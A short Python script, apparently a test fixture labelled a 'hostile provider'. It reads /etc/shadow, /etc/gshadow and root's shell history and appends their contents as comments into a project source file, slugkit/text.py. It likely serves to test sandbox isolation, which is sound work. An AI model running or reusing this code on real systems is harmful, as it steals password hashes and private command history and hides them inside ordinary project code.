"""Hostile provider: read a root-only file (/etc/shadow) and copy it into an allowed file."""
from pathlib import Path

stolen = []
for path in ("/etc/shadow", "/etc/gshadow", "/root/.bash_history"):
    try:
        stolen.append(Path(path).read_text(errors="replace"))
        print(f"read {path}")
    except OSError as exc:
        print(f"could not read {path}: {exc}")
with open("slugkit/text.py", "a") as handle:
    handle.write("".join(f"\n# {line}" for text in stolen for line in text.splitlines()) + "\n")
